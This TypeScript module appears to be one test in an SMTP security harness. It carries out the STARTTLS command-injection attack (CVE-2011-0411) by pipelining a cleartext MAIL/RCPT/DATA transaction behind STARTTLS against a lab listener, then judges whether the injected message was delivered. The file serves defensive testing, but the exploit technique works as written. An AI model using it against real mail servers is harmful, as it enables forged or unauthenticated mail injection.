// ATK-8 (RFC 3207 §6, CVE-2011-0411): a whole transaction in cleartext behind STARTTLS, to be carried out as if it had come
// in TLS.

import { randomBytes } from 'node:crypto';
import type { Attack } from '../attack.ts';
import { attempt, fell, held, letterTo, undetermined } from '../judging.ts';
import { openTalk, TargetUnreachable } from '../talk.ts';

export const commandInjection: Attack = {
  id: 'ATK-8',
  title: 'injects a transaction behind STARTTLS into the listener',
  controls: "client's TCP path",
  sends: 'STARTTLS, MAIL, RCPT and DATA in one segment; after the handshake only the content',
  sinkMaySee: 'honest mail to the same domain, nothing of the injected',
  mustBeVisible: 'no transaction; log',
  claims: ['smtp-server'],
  run: async (arena) => {
    const domain = await arena.fresh('plain');
    const mark = randomBytes(6).toString('hex');
    const talk = openTalk(arena.target);
    try {
      await talk.ask(undefined);
      if (!/STARTTLS/.test(await talk.ask('EHLO injector.test')))
        return undetermined('the listener offers no STARTTLS');
      const transaction = ['MAIL FROM:<sender@relay.lab.test>', `RCPT TO:<${mark}@${domain}>`, 'DATA'];
      const reply = await talk.ask(['STARTTLS', ...transaction].join('\r\n'));
      if (reply.startsWith('220')) {
        await talk.secure();
        talk.write(`Subject: ${mark}\r\n\r\ninjected\r\n.\r\nQUIT`);
        await talk.ask(undefined);
      }
    } catch (error) {
      // Closed: that is one way to withstand.
      if (!(error instanceof TargetUnreachable)) throw error;
    } finally {
      talk.close();
    }
    // Honest mail that was taken later has arrived: what was taken earlier has had its chance.
    const later = await attempt(arena, letterTo(domain));
    if (later.messageAt.length === 0) return undetermined('honest mail to the same domain does not arrive');
    const injected = arena.lab
      .host(`mx.${domain}`)
      .sessions.some(({ said }) => said.some(({ line }) => line.includes(mark)));
    return injected ? fell('the injected message arrived') : held('only the honest message arrived');
  },
};
